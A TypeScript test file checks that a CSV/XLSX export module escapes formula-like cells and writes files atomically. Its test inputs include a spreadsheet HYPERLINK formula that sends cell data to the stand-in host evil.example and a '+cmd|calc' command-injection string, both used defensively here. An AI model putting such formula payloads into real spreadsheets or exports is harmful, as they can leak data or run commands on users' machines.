import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { SuggestionRow } from '../../engine/db/queries/planning';
import { CsvStreamWriter, safeCell, toDelimited } from '../../engine/io/writer';
import { exportSuggestions } from '../../engine/planning/export';
import { bench, type Bench } from './import-helpers';

let b: Bench;
beforeEach(() => {
  b = bench();
});
afterEach(() => b.cleanup());

const ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Click")';

function suggestion(over: Partial<SuggestionRow>): SuggestionRow {
  return {
    id: 1, planId: 'p', productId: 1, sku: 'AP-1', title: 'Shirt', supplier: 'Acme', suggestedQty: 5, quantity: 5, unitCost: 2.5,
    orderDate: '2024-03-01', arrivalDate: '2024-03-08', status: 'open', detail: {}, ...over,
  };
}

describe('one writer: formula-safe cells, atomic files', () => {
  it('FILE.rejects.csv escapes cells from the user file that a spreadsheet would run as formulas', async () => {
    const path = b.file('products.csv', `sku,title,price\nA,Shirt,10\n@SUM(1+1),"${ATTACK.replace(/"/g, '""')}",abc\n`);
    const r = await b.imp({ kind: 'products', path, skipInvalid: true });
    expect(r.rejected).toBe(1);
    const rows = parse(readFileSync(r.rejectsFile as string, 'utf8'), { bom: true }) as string[][];
    expect(rows[1]).toEqual(['3', 'price', 'abc', 'not a number', "'@SUM(1+1)", `'${ATTACK}`, 'abc']);
    // No temporary file is left beside it.
    expect(readdirSync(b.dir).filter((f) => f.endsWith('.tmp'))).toEqual([]);
  });

  it('purchase orders escape formula-like supplier names and titles in CSV and XLSX, and keep numbers as numbers', async () => {
    const rows = [suggestion({ supplier: '+cmd|calc', title: ATTACK })];
    const csv = await exportSuggestions(rows, { dataDir: b.dir, format: 'csv', name: 'po.csv', lang: 'en' });
    const lines = parse(readFileSync(csv.path, 'utf8'), { bom: true }) as string[][];
    expect(lines[1].slice(0, 4)).toEqual(["'+cmd|calc", 'AP-1', `'${ATTACK}`, '5']);
    const xlsx = await exportSuggestions(rows, { dataDir: b.dir, format: 'xlsx', name: 'po.xlsx', lang: 'en' });
    const { default: ExcelJS } = await import('exceljs');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(xlsx.path);
    const row = wb.worksheets[0].getRow(2);
    expect([row.getCell(1).value, row.getCell(3).value, row.getCell(4).value, row.getCell(6).value]).toEqual(["'+cmd|calc", `'${ATTACK}`, 5, 2.5]);
  });

  it('numbers and plain-number text stay untouched; only formula-like text is escaped, once', () => {
    expect([safeCell(-5), safeCell('-5'), safeCell('-12.50'), safeCell('-5+A1'), safeCell("'=x"), safeCell('\tx'), safeCell(null)]).toEqual([-5, '-5', '-12.50', "'-5+A1", "'=x", "'\tx", null]);
    expect(toDelimited({ header: ['a', 'b'], rows: [['=1+1', 3]], delimiter: ',' })).toBe("a,b\r\n'=1+1,3\r\n");
  });

  it('a streamed CSV appears only when closed, and abort leaves nothing behind', () => {
    const path = join(b.dir, 'out', 'rows.csv');
    const w = new CsvStreamWriter(path);
    w.row(['x', 1]);
    expect(existsSync(path)).toBe(false);
    w.close();
    expect(readFileSync(path, 'utf8')).toBe('\ufeffx,1\r\n');
    const gone = new CsvStreamWriter(join(b.dir, 'out', 'gone.csv'));
    gone.row(['y']);
    gone.abort();
    expect(readdirSync(join(b.dir, 'out'))).toEqual(['rows.csv']);
  });
});
